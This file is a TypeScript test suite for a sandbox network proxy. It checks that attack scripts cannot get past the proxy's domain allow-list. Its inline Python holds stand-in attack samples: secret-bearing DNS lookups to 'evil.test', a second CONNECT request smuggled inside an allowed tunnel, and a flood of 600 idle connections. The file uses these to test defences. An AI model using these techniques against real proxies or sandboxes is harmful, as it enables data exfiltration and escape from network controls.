import { once } from "node:events";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { listSessions, readJournal, verifyJournal } from "../../src/index.ts";
import type { Person, Result } from "../stage/index.ts";
import { noWorld, World } from "../stage/world.ts";
import type { Heard } from "../stage/world.ts";
import { networkAttacks, PRELUDE } from "./network-attacks.ts";
import type { NetworkAttack } from "./network-attacks.ts";
import { requestAttacks } from "./request-attacks.ts";

describe.skipIf(noWorld !== null)("attacks on the door", () => {
  let world: World;
  beforeAll(async () => {
    world = await World.start();
  });
  afterAll(() => world?.stop());

  const attempt = async (
    person: Person,
    { script, environment = {} }: NetworkAttack,
    words: readonly string[] | "outside",
  ): Promise<readonly [readonly Heard[], Result]> => {
    const stage = world.stage(person);
    const program = ["-c", PRELUDE + script];
    try {
      return await world.hearing(() =>
        words === "outside"
          ? stage.plain("python3", program, { timeout: 60_000, environment })
          : stage.run([...words, "--", "python3", ...program], { timeout: 60_000, environment }),
      );
    } finally {
      stage.remove();
    }
  };

  describe.each(["self", "ordinary"] as const)("as %s", (person) => {
    describe.each([...networkAttacks, ...requestAttacks])("$id: $title", (attack) => {
      it("has no effect", async () => {
        const [heard, result] = await attempt(person, attack, attack.words ?? []);
        expect(result, result.stderr).toMatchObject({ status: 0, signal: null });
        expect(attack.effect(heard, result), JSON.stringify([heard, result.stdout])).toBe(false);
      });

      it("has its effect when allowed", async () => {
        const [heard, result] = await attempt(person, attack, attack.allowed);
        expect(attack.effect(heard, result), JSON.stringify([heard, result])).toBe(true);
      });
    });

    it("N40: the door of one run serves no other, and nobody on the host", async () => {
      const stage = world.stage(person);
      const rules = ["--allow-domain", "good.test"];
      const fetch = ["curl", "-s", "-m", "2", "-x", "http://127.0.0.1:61128", "http://good.test/"];
      const first = stage.start([...rules, "--", "sh", "-c", "echo up; sleep 20"]);
      if (first.stdout !== null) await once(first.stdout, "data");
      const [heard] = await world.hearing(() => {
        stage.plain("curl", fetch.slice(1));
        stage.run(["--", ...fetch]);
        stage.run(["--allow-domain", "other.test", "--", ...fetch]);
      });
      const [allowed] = await world.hearing(() => stage.run([...rules, "--", ...fetch]));
      stage.remove();
      expect(heard).toEqual([]);
      expect(allowed).toContainEqual(expect.objectContaining({ kind: "http", host: "good.test" }));
    });

    it("N08, N42: what left in names, and by way of another proxy, stands in the journal", async () => {
      const stage = world.stage(person);
      const script = `${PRELUDE}
for n in range(40): plain(b"s3cret%d.wild.test" % n)
try: socket.getaddrinfo("s3cret.evil.test", 80)
except OSError: pass
tunnel(b"good.test:8080"); say(b"CONNECT good.test:8080 HTTP/1.1\\r\\nHost: good.test:8080\\r\\n\\r\\nCONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n")`;
      const words = ["--allow-domain", "*.wild.test", "--allow-domain", "good.test:8080", "--"];
      const [heard] = await world.hearing(() => stage.run([...words, "python3", "-c", script], { timeout: 60_000 }));
      const asked = new Set(heard.flatMap((each) => (each.kind === "dns" ? [each.name] : [])));
      const [{ journal } = { journal: "" }] = listSessions(new Map([["HOME", stage.home]]));
      expect(verifyJournal(journal)).toMatchObject({ status: "ok", closed: true });
      const told = [...readJournal(journal)].filter(({ kind }) => kind.startsWith("network."));
      const targets = (kind: string): readonly unknown[] =>
        told.flatMap((event) => (event.kind === kind ? [event.members.get("target")] : []));
      expect(asked.size).toBeGreaterThan(30);
      expect(targets("network.allowed")).toEqual(
        expect.arrayContaining([...asked].map((name) => `${name}:${name === "good.test" ? 8080 : 80}`)),
      );
      expect(targets("network.refused")).toEqual(expect.arrayContaining(["s3cret.evil.test:0", "good.test:8080"]));
      expect(targets("network.allowed")).not.toContain("s3cret.evil.test:0");
      stage.remove();
    });

    it("N51: hundreds of clients that say nothing keep nobody from the door", () => {
      const stage = world.stage(person);
      const script = `${PRELUDE}
import time
kept = [connect("127.0.0.1", 61128) for _ in range(500)] + [connect("good.test", 443) for _ in range(100)]
for n, s in enumerate(kept):
    if n % 2: s.sendall(b"GET http://good.test/ HTTP/1.1\\r\\nX: ")
before = time.time()
subprocess.run(["curl", "-s", "http://good.test/"])
print(time.time() - before < 1, len(kept))`;
      const { stdout } = stage.run(["--allow-domain", "good.test", "--", "python3", "-c", script]);
      stage.remove();
      expect(stdout).toBe("hello from good.test /\nTrue 600\n");
    });
  });
});
